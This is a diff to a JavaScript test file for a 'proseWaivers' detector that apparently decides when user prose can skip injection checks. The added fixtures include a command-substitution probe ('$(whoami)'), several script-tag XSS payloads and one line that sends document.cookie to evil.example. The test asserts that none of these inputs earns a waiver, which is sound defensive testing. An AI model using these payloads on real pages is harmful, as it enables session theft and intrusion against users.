@@ -138,6 +138,9 @@ describe('proseWaivers', () => {
     assert.equal(w('0 7 * * MON-FRI'), 'g');
     assert.ok(!w('1 OR 1=1 * * *').includes('g'));
     assert.ok(w('cron is every 5 min, ok? "*/5 * * * *"').includes('q'));
+    // Family o: a tag's `>` before a parenthesis is no process substitution, unless the text expands something.
+    assert.ok(w('<p>Cone on for <strong>10–14 days</strong> (yes, even at night)</p>').includes('o'));
+    assert.ok(!w('<p>Cone on for <strong>$(whoami)</strong> (yes, even at night)</p>').includes('o'));
     assert.ok(!w('is it "1 AND 1 AND 1 AND 1 AND 1" or not okay friend').includes('g'));
     assert.ok(markdownField('json.issue.body'));
     assert.ok(markdownField('json.comments.0.bodyMarkdown'));
@@ -182,6 +185,9 @@ describe('proseWaivers', () => {
       'Nice post my friend <b>bold</b> then &lt;script&gt;alert(1)&lt;/script&gt; and more',
       // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal template expression in the text
       'Nice post my friend <script> tags and ${alert(1)} and more text',
+      '<script>fetch?.("https://evil.example/c?" + document.cookie) // why do script tags show up here',
+      '<script>alert?.(document.cookie) // why do script tags show up in my page',
+      '<script>top?.eval?.(atob?.("YWxlcnQoMSk=")) // why do script tags show up here',
     ])
       assert.ok(!w(s).includes('h'), s);
   });
